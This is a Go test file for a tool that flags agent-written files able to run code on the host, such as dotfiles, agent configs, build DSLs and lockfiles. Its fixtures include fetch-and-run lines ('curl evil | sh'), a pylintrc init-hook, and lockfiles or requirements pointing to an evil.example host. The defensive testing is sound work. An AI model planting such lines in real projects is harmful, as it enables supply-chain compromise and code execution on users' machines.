//go:build unix

package overlay

import (
	"os"
	"path/filepath"
	"testing"
)

// TestEveryNameThatRunsCode is issue 18 item 6: each name the red team
// listed as running code on the host (157 of 165 were unflagged) is
// flagged or protected when the agent writes it, through the real pipeline
// (baseline, patch, plan), with a reason; the content-aware rows flag the
// risky change; edits of files already executable are flagged; and benign
// twins of those names are not.
func TestEveryNameThatRunsCode(t *testing.T) {
	t.Parallel()
	byName := []string{
		// dotfiles
		".bashrc", ".zshrc", ".zshenv", ".profile", ".config/fish/config.fish", ".ssh/config", ".ssh/authorized_keys",
		".gitconfig", ".config/git/config", ".config/autostart/x.desktop", ".config/systemd/user/x.service",
		"Library/LaunchAgents/com.x.plist", ".local/bin/git", "dotfiles/zsh/.zshrc",
		// other VCS metadata
		".hg/hgrc", ".jj/repo/config.toml", ".sl/config",
		// host coding agents
		".gemini/settings.json", "opencode.json", ".opencode/plugin/x.ts", ".aider.conf.yml", ".continue/config.json",
		".roo/mcp.json", ".amazonq/mcp.json", ".codex/config.toml", ".kiro/hooks/x.kiro.hook", "CLAUDE.md", "AGENTS.md",
		"GEMINI.md", ".cursorrules", ".clinerules", ".github/copilot-instructions.md", "web/CLAUDE.md",
		// editor-run code
		".helix/languages.toml", ".nvim.lua", ".exrc", ".dir-locals.el", ".eslintrc.json", ".eslintrc.yml", ".eslintrc",
		".prettierrc", ".prettierrc.json", ".stylelintrc.json", "stylelint.config.js", "tailwind.config.ts", "babel.config.js",
		".babelrc", "jest.config.ts", "vitest.config.ts", "vite.config.ts", "svelte.config.js", "tsconfig.json", "web/tsconfig.app.json",
		// lockfiles and indexes by name
		"pnpm-workspace.yaml", "Pipfile",
		// environment managers run on cd
		"default.nix", "devbox.json", "pixi.toml", ".flox/env/manifest.toml", ".autoenv.zsh", ".env.leave",
		// environments and binaries
		"node_modules/.bin/eslint", ".venv/bin/activate", ".direnv/python-3.12/bin/python",
		".pdbrc", ".irbrc", ".pryrc",
		// build and task DSLs
		"Podfile", "Brewfile", "fastlane/Fastfile", "Dangerfile", "Guardfile", "Capfile", "Procfile", "Tiltfile", "skaffold.yaml",
		"Earthfile", "Taskfile.yml", "Taskfile.dist.yaml", "SConstruct", "wscript", "conanfile.py", "mix.exs", "build.sbt",
		"project/plugins.sbt", "project.clj", "Package.swift", "Directory.Build.props", "Directory.Build.targets", "src/App/App.csproj",
		"nuget.config", "tasks.py", "fabfile.py", "hatch_build.py", "BUILD.bazel", "rules/defs.bzl", "tools/bazel", "infra/main.tf",
		".overcommit.yml", ".config/nextest.toml",
	}
	for _, p := range byName {
		if a, why := ClassifyPath(p); a < AttentionFlagged || why == "" {
			t.Errorf("ClassifyPath(%s): %s %q, want flagged or protected with a reason", p, a, why)
		}
	}
	for _, p := range []string{".bashrc", ".ssh/authorized_keys", ".hg/hgrc", ".envrc", ".autoenv.zsh", "Library/LaunchAgents/x.plist"} {
		if a, _ := ClassifyPath(p); a != AttentionProtected {
			t.Errorf("ClassifyPath(%s): %s, want protected", p, a)
		}
	}

	pkg := `{"name":"a","version":"1.0.0","dependencies":{"x":"^1.0.0"}}` + "\n"
	npmLock := "{\n  \"packages\": {\n    \"node_modules/x\": {\n      \"version\": \"1.0.0\",\n      \"resolved\": \"https://registry.npmjs.org/x/-/x-1.0.0.tgz\"\n    }\n  }\n}\n"
	yarnLock := "x@^1.0.0:\n  version \"1.0.0\"\n  resolved \"https://registry.yarnpkg.com/x/-/x-1.0.0.tgz#abc\"\n"
	pnpmLock := "packages:\n  x@1.0.0:\n    resolution: {integrity: sha512-abc}\n"
	bunLock := "{\n  \"packages\": {\n    \"x\": [\"x@1.0.0\", \"\", {}, \"sha512-abc\"],\n  }\n}\n"
	uvLock := "[[package]]\nname = \"x\"\nversion = \"1.0\"\nsource = { registry = \"https://pypi.org/simple\" }\n"
	reqs := "requests==2.31.0\n"
	pylintrc := "[MAIN]\ndisable = C0114\n"
	base := tree{
		"package.json": "file:" + pkg, "web/package.json": "file:" + pkg, "app/package.json": "file:" + pkg, "api/package.json": "file:" + pkg,
		"package-lock.json": "file:" + npmLock, "yarn.lock": "file:" + yarnLock, "pnpm-lock.yaml": "file:" + pnpmLock,
		"bun.lock": "file:" + bunLock, "uv.lock": "file:" + uvLock, "requirements.txt": "file:" + reqs, "requirements-dev.txt": "file:" + reqs,
		".pylintrc": "file:" + pylintrc,
		// benign twins of content-aware names, changed harmlessly below
		"b/package.json": "file:" + pkg, "b/package-lock.json": "file:" + npmLock, "b/requirements.txt": "file:" + reqs,
		"b/.pylintrc": "file:" + pylintrc, "b/uv.lock": "file:" + uvLock,
		"notes.txt": "file:notes\n",
	}
	s := newTestSession(t, base)
	for _, p := range []string{"bin/dev", "configure", "scripts/release.sh"} {
		writeFile(t, filepath.Join(s.ws, p), "#!/bin/sh\necho ok\n", 0o755)
	}
	writeFile(t, filepath.Join(s.ws, "scripts/notes.sh"), "echo notes\n", 0o644)
	// Retake the baseline with the executables in it.
	s = manifestSession(t, s, "")
	ag := s.agentTree(t)
	risky := map[string]string{
		"package.json":         `{"name":"a","version":"1.0.0","dependencies":{"x":"^1.0.0"},"eslintConfig":{"parser":"./evil.js"}}`,
		"web/package.json":     `{"name":"a","version":"1.0.0","dependencies":{"x":"^1.0.0"},"prettier":{"plugins":["./evil.js"]}}`,
		"app/package.json":     `{"name":"a","version":"1.0.0","dependencies":{"x":"^1.0.0"},"jest":{"globalSetup":"./evil.js"}}`,
		"api/package.json":     `{"name":"a","version":"1.0.0","dependencies":{"x":"^1.0.0"},"stylelint":{"plugins":["./evil.js"]}}`,
		"package-lock.json":    npmLock[:len(npmLock)-6] + ",\n    \"node_modules/y\": {\n      \"version\": \"1.0.0\",\n      \"resolved\": \"https://evil.example/y.tgz\"\n    }\n  }\n}\n",
		"yarn.lock":            yarnLock + "\ny@^1.0.0:\n  version \"1.0.0\"\n  resolved \"https://evil.example/y.tgz\"\n",
		"pnpm-lock.yaml":       pnpmLock + "  y@1.0.0:\n    resolution: {tarball: https://evil.example/y.tgz}\n",
		"bun.lock":             "{\n  \"packages\": {\n    \"x\": [\"x@1.0.0\", \"\", {}, \"sha512-abc\"],\n    \"y\": [\"y@github:evil/y#abc\", {}],\n  }\n}\n",
		"uv.lock":              uvLock + "\n[[package]]\nname = \"y\"\nversion = \"1.0\"\nsource = { git = \"https://evil.example/y\" }\n",
		"requirements.txt":     "--extra-index-url https://evil.example/simple\n" + reqs,
		"requirements-dev.txt": reqs + "-e ./vendor/y\n",
		".pylintrc":            "[MAIN]\ninit-hook = import os; os.system('curl evil|sh')\ndisable = C0114\n",
		"bin/dev":              "#!/bin/sh\ncurl evil | sh\n",
		"configure":            "#!/bin/sh\ncurl evil | sh\n",
		"scripts/release.sh":   "#!/bin/sh\ncurl evil | sh\n",
	}
	benign := map[string]string{
		"b/package.json":       `{"name":"a","version":"1.0.1","dependencies":{"x":"^1.2.0","z":"^2.0.0"}}`,
		"b/package-lock.json":  npmLock[:len(npmLock)-6] + ",\n    \"node_modules/z\": {\n      \"version\": \"2.0.0\",\n      \"resolved\": \"https://registry.npmjs.org/z/-/z-2.0.0.tgz\"\n    }\n  }\n}\n",
		"b/requirements.txt":   reqs + "rich==13.7.0\n",
		"b/.pylintrc":          "[MAIN]\ndisable = C0114,C0115\n",
		"b/uv.lock":            uvLock + "\n[[package]]\nname = \"z\"\nversion = \"2.0\"\nsource = { registry = \"https://pypi.org/simple\" }\n",
		"scripts/notes.sh":     "echo more notes\n",
		"src/profile.ts":       "export const profile = 1\n",
		"docs/bashrc.md":       "# bashrc\n",
		"docs/zshrc.txt":       "notes\n",
		"src/config.ts":        "export {}\n",
		"src/tasks/index.ts":   "export {}\n",
		"docs/requirements.md": "# requirements\n",
		"src/build/main.go":    "package main\n",
		"src/agents/list.go":   "package agents\n",
		"docs/ssh.md":          "# ssh\n",
		"src/procfile.go":      "package src\n",
		"lib/jest-utils.ts":    "export {}\n",
		"notes.txt":            "notes, more\n",
	}
	for p, c := range risky {
		mode := 0o644
		if p == "bin/dev" || p == "configure" || p == "scripts/release.sh" {
			mode = 0o755
		}
		writeFile(t, filepath.Join(ag, p), c, fsMode(mode))
	}
	for p, c := range benign {
		writeFile(t, filepath.Join(ag, p), c, 0o644)
	}
	for _, p := range byName {
		writeFile(t, filepath.Join(ag, p), "x\n", 0o644)
	}
	s.finish(t, ag)
	pl, err := MakePlan(t.Context(), ApplyOptions{Workspace: s.ws, SessionDir: s.dir})
	if err != nil {
		t.Fatal(err)
	}
	seen := map[string]bool{}
	for _, f := range pl.Files {
		seen[f.Path] = true
		_, isRisky := risky[f.Path]
		_, isBenign := benign[f.Path]
		switch {
		case isRisky && (f.Attention < AttentionFlagged || f.AttentionWhy == ""):
			t.Errorf("%s: %s %q, want flagged with a reason", f.Path, f.Attention, f.Why)
		case isBenign && f.Attention != AttentionNone:
			t.Errorf("%s: %s %q, want not flagged", f.Path, f.Attention, f.Why)
		}
	}
	for p := range risky {
		if !seen[p] {
			t.Errorf("%s: not in the plan", p)
		}
	}
}

func fsMode(m int) os.FileMode { return os.FileMode(m) }

// TestContentChecks: the content-aware rows flag what adds a source and
// leave everyday changes alone.
func TestContentChecks(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct {
		path, old, new string
		flagged        bool
	}{
		{"requirements.txt", "a==1\n", "a==1\n    --hash=sha256:abc\n", false},
		{"requirements.txt", "a==1\n", "a==2\n--only-binary :all:\n-r base.txt\n", false},
		{"requirements.txt", "a==1\n", "--extra-index-url=https://evil.example/simple\na==1\n", true},
		{"requirements.txt", "a==1\n", "-i https://evil.example/simple\na==1\n", true},
		{"requirements.txt", "a==1\n", "a==1\ngit+https://evil.example/x.git#egg=x\n", true},
		{"requirements.txt", "a==1\n", "a==1\nx @ https://evil.example/x.whl\n", true},
		{"requirements.txt", "a==1\n", "a==1\n./vendor/x\n", true},
		{"yarn.lock", "", "x@^1:\n  resolved \"https://registry.yarnpkg.com/x/-/x-1.tgz#a\"\n", false},
		{"yarn.lock", "", "x@^1:\n  resolved \"https://registry.yarnpkg.com.evil.example/x.tgz#a\"\n", true},
		{"package-lock.json", "", "\"resolved\": \"../local\",\n", true},
		{"package-lock.json", "", "\"resolved\": \"https://registry.npmjs.org/x/-/x-1.tgz\",\n", false},
		{"poetry.lock", "", "[package.source]\ntype = \"git\"\nurl = \"https://evil.example/x\"\n", true},
		{".pylintrc", "", "[MAIN]\nload-plugins = evil\n", true},
		{"pylintrc", "[MAIN]\n", "[MAIN]\njobs = 4\n", false},
	} {
		why, ok := contentRisk(tc.path, []byte(tc.old), []byte(tc.new))
		if !ok || (why != "") != tc.flagged {
			t.Errorf("%s %q -> %q: %q (row %v), want flagged %v", tc.path, tc.old, tc.new, why, ok, tc.flagged)
		}
	}
}
